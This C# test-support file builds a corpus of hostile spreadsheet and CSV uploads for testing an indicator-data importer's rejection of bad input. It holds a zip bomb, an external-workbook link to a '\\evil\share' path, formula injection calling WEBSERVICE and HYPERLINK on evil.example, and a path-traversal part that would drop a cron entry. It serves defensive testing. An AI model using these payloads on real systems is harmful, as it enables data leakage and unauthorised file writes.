using System.Text;

namespace Indicators.Tests.Support;

/// <summary>
/// Hostile spreadsheet bodies for the bad-input corpus (<c>"generate": {"sheet": "name"}</c> in bad-inputs.json), made
/// when the test runs so that no large or binary file is kept in the repository.
/// </summary>
public static class HostileSheets
{
    private static readonly string?[] Header = ["indicator", "orgUnit", "period", "value", "status", "note"];

    private static readonly string?[] Row = ["INDUSTRIAL_OUTPUT", "TQ-SD", "2021-M03", "#n:1", "estimate", null];

    private static readonly Dictionary<string, Func<byte[]>> Bodies = new(StringComparer.Ordinal)
    {
        ["xlsx-zip-bomb"] = () => Xlsx.Build([Header, Row], new Xlsx.Options { Padding = 100L * 1024 * 1024 }),
        ["xlsx-lying-central-directory"] = () => Xlsx.LyingSizes(Xlsx.Build([Header, Row], new Xlsx.Options { Padding = 100L * 1024 * 1024 }), 4096),
        ["xlsx-truncated"] = () => Xlsx.Build([Header, Row])[..700],
        ["xlsx-external-link"] = () => Xlsx.Build([Header, Row], new Xlsx.Options
        {
            ExtraParts = new Dictionary<string, byte[]>
            {
                ["xl/externalLinks/externalLink1.xml"] = Encoding.UTF8.GetBytes(
                    """<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><externalBook xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rId1"/></externalLink>"""),
                ["xl/externalLinks/_rels/externalLink1.xml.rels"] = Encoding.UTF8.GetBytes(
                    """<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" Target="file:///\\evil\share\book.xlsx" TargetMode="External"/></Relationships>"""),
            },
            WorkbookRelationships = [("http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink", "externalLinks/externalLink1.xml")],
            ContentTypes = [("/xl/externalLinks/externalLink1.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml")],
        }),
        ["xlsx-macros"] = () => Xlsx.Build([Header, Row], new Xlsx.Options
        {
            ExtraParts = new Dictionary<string, byte[]> { ["xl/vbaProject.bin"] = [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1] },
            WorkbookRelationships = [("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin")],
        }),
        ["xlsx-macro-enabled"] = () => Xlsx.Build([Header, Row], new Xlsx.Options { WorkbookContentType = "application/vnd.ms-excel.sheet.macroEnabled.main+xml" }),
        ["xlsx-formula"] = () => Xlsx.Build([Header, ["INDUSTRIAL_OUTPUT", "TQ-SD", "2021-M03", "#f:WEBSERVICE(\"http://evil.example/\")|1", "estimate", null]]),
        ["xlsx-formula-in-note"] = () => Xlsx.Build([Header, ["INDUSTRIAL_OUTPUT", "TQ-SD", "2021-M03", "#n:1", "estimate", "#f:HYPERLINK(\"http://evil.example\")|x"]]),
        ["xlsx-date-value"] = () => Xlsx.Build([Header, ["INDUSTRIAL_OUTPUT", "TQ-SD", "2021-M03", "#d:44197", "estimate", null]]),
        ["xlsx-huge-shared-strings"] = () => Xlsx.Build([Header, Row], new Xlsx.Options { ExtraSharedStrings = 300_000 }),
        ["xlsx-10001-rows"] = () => Xlsx.Build(Enumerable.Repeat(Row, 10_001).Prepend(Header)),
        ["xlsx-encrypted"] = () => [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, .. new byte[4096]],
        ["xlsx-part-name-traversal"] = () => Xlsx.Build([Header, Row], new Xlsx.Options
        {
            ExtraParts = new Dictionary<string, byte[]> { ["../../etc/cron.d/evil"] = Encoding.UTF8.GetBytes("* * * * * root id") },
        }),
        ["csv-10001-rows"] = () => Encoding.UTF8.GetBytes(Xlsx.Csv(',', [Header, .. Enumerable.Repeat(new string?[] { "INDUSTRIAL_OUTPUT", "TQ-SD", "2021-M03", "1", "estimate", null }, 10_001)])),
        ["csv-20-MB"] = () => Encoding.UTF8.GetBytes("indicator,orgUnit,period,value,status,note\r\n" + new string('x', 20_000_000)),
        ["csv-utf16"] = () => [.. Encoding.Unicode.GetPreamble(), .. Encoding.Unicode.GetBytes("indicator,orgUnit,period,value,status\r\nINDUSTRIAL_OUTPUT,TQ-SD,2021-M03,1,estimate\r\n")],
    };

    public static byte[] Body(string name) =>
        Bodies.TryGetValue(name, out var make) ? make() : throw new ArgumentException($"No hostile sheet named '{name}'.", nameof(name));
}
